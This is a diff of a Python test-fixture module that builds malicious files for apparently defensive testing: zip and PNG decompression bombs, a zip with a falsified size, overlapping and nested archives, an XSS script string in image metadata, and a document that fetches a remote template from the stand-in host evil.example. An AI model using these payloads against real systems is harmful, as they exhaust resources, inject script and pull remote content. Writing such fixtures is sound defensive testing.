@@ -1,4 +1,4 @@
-"""Files made to harm: each is a function that draws it, none is kept anywhere."""
+"""Malicious files: each is built by a function, none is stored in the repository."""
 
 import io
 import struct
@@ -20,7 +20,7 @@ def chunk(kind: bytes, data: bytes) -> bytes:
 
 
 def png_with(*chunks: bytes) -> bytes:
-    """A small right picture with chunks put after its header."""
+    """A small valid picture with chunks inserted after its header."""
     return PNG[:33] + b"".join(chunks) + PNG[33:]
 
 
@@ -31,12 +31,12 @@ def huge_png() -> bytes:
 
 
 def long_png() -> bytes:
-    """25,000 × 10: few pixels, and a side that no page has."""
+    """25,000 × 10: few pixels, but one side over the limit."""
     return picture("PNG", (25_000, 10))
 
 
 def huge_jpeg() -> bytes:
-    """The size in the frame header (SOF0) of a right JPEG, changed to 40,000 × 40,000."""
+    """A valid JPEG whose frame header (SOF0) says 40,000 × 40,000."""
     place = JPEG.index(b"\xff\xc0") + 5
     return JPEG[:place] + struct.pack(">HH", 40_000, 40_000) + JPEG[place + 4 :]
 
@@ -57,29 +57,29 @@ def animated(encoding: str) -> bytes:
 
 
 def text_bomb() -> bytes:
-    """A compressed text (zTXt) of 100 MB in a right PNG."""
+    """A compressed text (zTXt) of 100 MB in a valid PNG."""
     return png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"0" * 100 * MEGABYTE, 9)))
 
 
 def profile_bomb() -> bytes:
-    """A colour profile (iCCP) of 100 MB in a right PNG."""
+    """A colour profile (iCCP) of 100 MB in a valid PNG."""
     return png_with(chunk(b"iCCP", b"bomb\0\0" + zlib.compress(b"0" * 100 * MEGABYTE, 9)))
 
 
 def broken_profile() -> bytes:
-    """A profile that is none: the colours are read without it."""
+    """An invalid colour profile: the colours are read without it."""
     return picture("JPEG", icc_profile=b"acsp" * 40)
 
 
-def telling_jpeg() -> bytes:
-    """The place, the camera and a page of HTML, in the EXIF, the XMP and a comment."""
+def jpeg_with_metadata() -> bytes:
+    """A JPEG with a location, a camera and HTML in its EXIF, its XMP and a comment."""
     exif = Image.Exif()
     exif[0x010E], exif[0x0110] = "<script>alert(1)</script>", "CAMERA-SECRETE"
     exif.get_ifd(0x8825)[2] = (48.0, 51.0, 24.0)
     return picture("JPEG", exif=exif, xmp=b"<x>LIEU-SECRET</x>", comment=b"COMMENTAIRE" + SCRIPT)
 
 
-def telling_png() -> bytes:
+def png_with_metadata() -> bytes:
     info = PngImagePlugin.PngInfo()
     info.add_text("Author", "AUTEUR-SECRET")
     info.add_itxt("XML:com.adobe.xmp", "<x>LIEU-SECRET</x>")
@@ -87,7 +87,7 @@ def telling_png() -> bytes:
 
 
 def mpo() -> bytes:
-    """A photograph of a telephone, with a hidden second one."""
+    """A telephone's photograph that hides a second one (MPO)."""
     content = io.BytesIO()
     seen, hidden = Image.new("RGB", (64, 48), "red"), Image.new("RGB", (64, 48), "blue")
     seen.save(content, "MPO", save_all=True, append_images=[hidden])
@@ -95,7 +95,7 @@ def mpo() -> bytes:
 
 
 def bomb(size: int = 300 * MEGABYTE) -> bytes:
-    """A text of zeros, a thousand times smaller once packed."""
+    """A text of zeros, a thousand times smaller once compressed."""
     content = io.BytesIO()
     with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as file:
         file.writestr("[Content_Types].xml", "<Types/>")
@@ -106,8 +106,8 @@ def bomb(size: int = 300 * MEGABYTE) -> bytes:
     return content.getvalue()
 
 
-def liar() -> bytes:
-    """A bomb whose directory says that it is a hundred bytes long."""
+def bomb_with_false_size() -> bytes:
+    """A bomb whose central directory claims a hundred bytes."""
     content = bytearray(bomb(50 * MEGABYTE))
     true = struct.pack("<I", 50 * MEGABYTE)
     for place in (content.find(true), content.rfind(true)):
@@ -116,10 +116,10 @@ def liar() -> bytes:
 
 
 def overlapping() -> bytes:
-    """Many names for the same packed bytes (Fifield, 2019)."""
+    """Many entries over the same compressed bytes (Fifield, 2019)."""
     content = bytearray(docx(**{f"word/media/{n}.bin": "0" * 20_000 for n in range(50)}))
     start = content.index(b"PK\x01\x02")
-    # Every entry of the directory, moved to the place of the first.
+    # Point every entry of the directory at the first one.
     place = start
     while content[place : place + 4] == b"PK\x01\x02":
         name, extra, comment = struct.unpack("<3H", content[place + 28 : place + 34])
@@ -129,7 +129,7 @@ def overlapping() -> bytes:
 
 
 def nested(depth: int = 5) -> bytes:
-    """An archive in an archive in an archive…"""
+    """Archives nested in each other."""
     inner = archive({"zeros.txt": "0" * MEGABYTE})
     for _level in range(depth):
         inner = archive({"inner.zip": inner}, compression=zipfile.ZIP_STORED)
@@ -145,7 +145,7 @@ def crowded() -> bytes:
 
 
 def encrypted() -> bytes:
-    """The flag of a password on each member."""
+    """An archive whose members have the encryption flag."""
     content = bytearray(DOCX)
     for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
         place = content.find(signature)
@@ -156,7 +156,7 @@ def encrypted() -> bytes:
 
 
 def external(kind: str) -> bytes:
-    """A part that is fetched from elsewhere when the document opens."""
+    """A document with a part fetched from elsewhere when it opens."""
     relation = (
         '<Relationships><Relationship Id="r1" Target="http://evil.example/t.dotm" '
         f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
